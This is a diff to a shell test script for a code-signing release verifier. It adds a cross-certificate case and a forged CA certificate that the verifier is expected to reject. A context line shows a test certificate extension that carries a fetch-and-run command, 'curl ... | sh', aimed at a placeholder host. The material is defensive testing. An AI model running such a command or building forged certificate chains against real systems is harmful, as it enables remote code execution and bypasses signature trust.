@@ -144,14 +144,20 @@ extendedKeyUsage = codeSigning
 [smuggler]
 basicConstraints = critical, CA:true
 1.3.6.1.4.1.55555.1 = ASN1:UTF8String:#!/bin/sh -e; curl -s http://example.invalid/x | sh
+[cross]
+basicConstraints = critical, CA:true
+keyUsage = critical, keyCertSign, cRLSign
+subjectKeyIdentifier = hash
+authorityKeyIdentifier = keyid
 EOF
 : > "$keys/index.txt"
 echo 01 > "$keys/serial"
-# certify NAME SUBJECT EXTENSIONS [ISSUER [FROM UNTIL]] makes the key NAME.key and its
-# certificate NAME.pem, issued by ISSUER or, without one, by itself, valid from 2000 to 2099
-# or from FROM until UNTIL.
+# certify NAME SUBJECT EXTENSIONS [ISSUER [FROM UNTIL]] makes the key NAME.key, unless there
+# is one, and its certificate NAME.pem, issued by ISSUER or, without one, by itself, valid from
+# 2000 to 2099 or from FROM until UNTIL.
 certify() {
-    openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$keys/$1.key" 2>/dev/null
+    [ -e "$keys/$1.key" ] ||
+        openssl genpkey -algorithm RSA -pkeyopt rsa_keygen_bits:2048 -out "$keys/$1.key" 2>/dev/null
     openssl req -new -key "$keys/$1.key" -subj "/CN=$2" -out "$keys/$1.csr"
     if [ $# -ge 4 ] && [ "$4" != self ]; then
         issuer="-cert $keys/$4.pem -keyfile $keys/$4.key"
@@ -176,6 +182,18 @@ certify server "a TLS server" tls_server ca
 certify no_ca "a certificate that is no CA" no_ca ca
 certify under_no_ca "a signer below a certificate that is no CA" code_signing no_ca
 certify smuggler "a certificate that carries a script" smuggler
+# The CA's key and name certified by the other CA, as a cross-certificate is; and a forgery of
+# one, which names the other CA as its issuer, down to its key identifier, but was signed by a
+# CA that merely has that name and identifier.
+cp "$keys/ca.key" "$keys/cross.key"
+certify cross "zelmorth throw-away CA" cross other
+printf '[impostor]\nbasicConstraints = critical, CA:true\nkeyUsage = critical, keyCertSign\n%s\n' \
+    "subjectKeyIdentifier = $(openssl x509 -in "$keys/other.pem" -noout -ext subjectKeyIdentifier |
+        sed -n '2s/^ *//p')" >> "$keys/ca.cnf"
+certify impostor "another throw-away CA" impostor
+cp "$keys/ca.key" "$keys/forged.key"
+certify forged "zelmorth throw-away CA" root impostor
+cat "$keys/ca.pem" "$keys/other.pem" > "$keys/ca-and-other.pem"
 openssl ca -gencrl -config "$keys/ca.cnf" -keyfile "$keys/ca.key" -cert "$keys/ca.pem" \
     -crldays 30 -out "$keys/ca.crl" 2>/dev/null
 cat "$keys/signer.pem" "$keys/ca.pem" > "$keys/chain.pem"
@@ -356,12 +374,21 @@ if [ -e "$keys/connections" ]; then
 fi
 echo "the listener at $url got no connection"
 
-step "verify-release.sh: two checks of the signed ZIP at once, in one checkout"
+step "verify-release.sh: two checks at once in one checkout, one of a chain with a cross-certificate"
+# The second ZIP's zelmorth.exe carries the CA's cross-certificate from the other CA in the
+# place of the CA itself, and --ca holds both.
+cat "$keys/signer.pem" "$keys/cross.pem" > "$keys/cross-chain.pem"
+mkdir "$keys/cross"
+sign_as signer "$keys/cross-chain.pem" "$epoch" "$keys/unsigned/zelmorth.exe" \
+    "$keys/cross/zelmorth.exe"
+cp dist/zelmorth-check.exe "$keys/cross/"
+signed_zip "$keys/cross.zip" "$keys/cross"
 status_one=0
 status_two=0
 ./release/verify-release.sh "$zip" --ca "$keys/ca.pem" > "$keys/one" 2>&1 < /dev/null &
 one=$!
-./release/verify-release.sh "$zip" --ca "$keys/ca.pem" > "$keys/two" 2>&1 < /dev/null &
+./release/verify-release.sh "$keys/cross.zip" --ca "$keys/ca-and-other.pem" \
+    > "$keys/two" 2>&1 < /dev/null &
 two=$!
 wait "$one" || status_one=$?
 wait "$two" || status_two=$?
@@ -393,6 +420,8 @@ sign_as ca "$keys/ca.pem" "$epoch" "$unsigned" "$keys/by-the-ca.exe"
 sign_as server "$keys/server.pem" "$epoch" "$unsigned" "$keys/server.exe"
 cat "$keys/under_no_ca.pem" "$keys/no_ca.pem" "$keys/ca.pem" > "$keys/no-ca-chain.pem"
 sign_as under_no_ca "$keys/no-ca-chain.pem" "$epoch" "$unsigned" "$keys/under-no-ca.exe"
+cat "$keys/signer.pem" "$keys/forged.pem" > "$keys/forged-chain.pem"
+sign_as signer "$keys/forged-chain.pem" "$epoch" "$unsigned" "$keys/forged.exe"
 commit=$(git rev-parse HEAD)
 while IFS='|' read -r changes ca cause; do
     # shellcheck disable=SC2086 # one word per change
@@ -428,6 +457,7 @@ commit=$(git rev-parse 'HEAD^{tree}')|ca|names $(git rev-parse 'HEAD^{tree}') as
 commit=$(git rev-parse HEAD:README.md)|ca|names $(git rev-parse HEAD:README.md) as its commit, but that is a blob object here
 program=zelmorth.exe:$keys/der-bomb.exe|ca|its signature is not DER: it has more than the 4096 elements that a signature has
 program=zelmorth.exe:$keys/sid-private-use.exe|ca|its signature does not carry its signer's certificate
+program=zelmorth.exe:$keys/forged.exe|ca-and-other|its chain holds "CN=zelmorth throw-away CA", which has the name of a CA of $keys/ca-and-other.pem but is neither that certificate nor a cross-certificate
 program=zelmorth.exe:$keys/expanding.exe program=zelmorth-check.exe:$keys/expanding.exe copies=$keys/expanding.exe||its time stamp does not verify: Verify error:certificate signature failure
 long-names|ca|BAD NAME ... and 55 more like it
 EOF
